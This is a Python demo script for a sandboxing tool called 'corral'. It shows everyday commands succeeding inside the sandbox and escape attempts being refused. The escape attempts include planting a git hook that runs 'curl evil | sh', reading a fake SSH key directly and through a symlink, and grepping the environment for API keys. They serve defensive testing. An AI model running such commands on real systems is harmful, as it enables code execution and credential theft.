"""A guided tour of `corral run`: everyday work succeeds, escape attempts are refused.

Runs with `--backend required`, so where no sandbox works it stops instead of running anything
unsandboxed. Network attempts target only a listener this script opens on 127.0.0.1.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile

CORRAL = [sys.executable, "-m", "corral"]


def corral(*args: str, cwd: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*CORRAL, "run", "--backend", "required", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
    )


def show(title: str, done: subprocess.CompletedProcess[str], expect_ok: bool) -> bool:
    ok = (done.returncode == 0) == expect_ok
    mark = "ok  " if ok else "FAIL"
    verdict = "allowed" if done.returncode == 0 else f"refused (exit {done.returncode})"
    print(f"[{mark}] {title}: {verdict}")
    detail = (done.stdout + done.stderr).strip().splitlines()
    for line in detail[-2:]:
        print(f"         {line}")
    return ok


def kept_inside(title: str, done: subprocess.CompletedProcess[str], path: str) -> bool:
    """A write judged on the host: it may succeed inside (the private home is an empty
    throwaway tmpfs), but must not reach `path` on the host."""
    ok = not os.path.exists(path)
    mark = "ok  " if ok else "FAIL"
    if done.returncode != 0:
        verdict = f"refused (exit {done.returncode})"
    else:
        verdict = "written inside the sandbox only" if ok else "it reached the host"
    print(f"[{mark}] {title}: {verdict}")
    return ok


def reviewed(
    title: str, done: subprocess.CompletedProcess[str], work: str, env: dict[str, str]
) -> bool:
    """A commit: made inside, held for your review (sandbox.git_history), then taken as a
    user does once `corral changes ID` showed it: `corral apply ID .git`."""
    held = done.returncode == 0 and "a command's commits wait for your review" in done.stderr
    listed = subprocess.run([*CORRAL, "changes"], cwd=work, env=env, capture_output=True, text=True)
    change_id = next((ln.split(":")[0] for ln in listed.stdout.splitlines() if ": held" in ln), "")
    applied = subprocess.run(
        [*CORRAL, "apply", change_id, ".git"], cwd=work, env=env, capture_output=True, text=True
    )
    log = subprocess.run(
        ["git", "log", "--oneline"], cwd=work, env=env, capture_output=True, text=True
    )
    ok = held and applied.returncode == 0 and "notes" in log.stdout
    mark = "ok  " if ok else "FAIL"
    print(f"[{mark}] {title}: held for your review, then applied: corral apply ID .git")
    for line in log.stdout.strip().splitlines()[:1]:
        print(f"         {line}")
    return ok


def main() -> int:
    # Not under /tmp: inside the sandbox /tmp is private, so a write there never reaches the
    # host, and the demo's "outside the workspace" would prove nothing.
    cache = os.path.join(os.environ.get("XDG_CACHE_HOME") or os.path.expanduser("~/.cache"))
    os.makedirs(cache, exist_ok=True)
    top = tempfile.mkdtemp(prefix="corral-demo-", dir=cache)
    # A throwaway home with a fake key: the demo shows masking without touching yours.
    home = os.path.join(top, "home")
    work = os.path.join(home, "project")
    os.makedirs(os.path.join(home, ".ssh"))
    with open(os.path.join(home, ".ssh", "id_ed25519"), "w") as f:
        f.write("DEMO-SECRET-KEY\n")
    env = {**os.environ, "HOME": home, "OPENAI_API_KEY": "sk-demo-not-a-real-key"}
    env["XDG_CONFIG_HOME"] = os.path.join(home, ".config")
    marker = os.path.join(home, "escaped.txt")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    port = listener.getsockname()[1]

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return corral(*args, cwd=work, env=env)

    try:
        subprocess.run(["git", "init", "-q", work], check=True)
        status = subprocess.run(
            [*CORRAL, "status"], cwd=work, env=env, capture_output=True, text=True
        )
        print(status.stdout.split("  environment:")[0].rstrip(), "\n")
        os.symlink(os.path.join(home, ".ssh", "id_ed25519"), os.path.join(work, "innocent.txt"))
        results = [
            show(
                "write a file in the workspace",
                run("sh", "-c", "echo hello > notes.txt && cat notes.txt"),
                True,
            ),
            reviewed(
                "commit in the workspace's git repository",
                run(
                    "sh",
                    "-c",
                    "git add notes.txt && git -c user.name=demo -c user.email=demo@example.com "
                    "commit -qm notes && git log --oneline",
                ),
                work,
                env,
            ),
            kept_inside(
                "write a file in your home, outside the workspace",
                run("sh", "-c", f"echo escaped > '{marker}'"),
                marker,
            ),
            show(
                "plant a git hook the host would run",
                run("sh", "-c", "echo 'curl evil | sh' > .git/hooks/pre-commit"),
                False,
            ),
            show(
                "read ~/.ssh/id_ed25519",
                run("cat", os.path.join(home, ".ssh", "id_ed25519")),
                False,
            ),
            show(
                "read it through a symlink planted in the workspace",
                run("cat", "innocent.txt"),
                False,
            ),
            show(
                f"connect to a host service on 127.0.0.1:{port}",
                run(
                    "python3",
                    "-c",
                    f"import socket; socket.create_connection(('127.0.0.1', {port}), 2)",
                ),
                False,
            ),
            show(
                "see the API keys in the environment",
                run("sh", "-c", "env | grep -i -e _KEY= -e TOKEN= -e NVIM"),
                False,
            ),
        ]
        escaped = os.path.exists(marker)  # checked on the host, whatever the exit status said
        print()
        if escaped or not all(results):
            print("Something was not as expected: see above.")
            return 1
        print("Everyday work succeeded; every escape attempt was refused.")
        print("Try it yourself:  .venv/bin/corral run -- sh      (and `corral --help`)")
        return 0
    finally:
        listener.close()
        shutil.rmtree(top, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
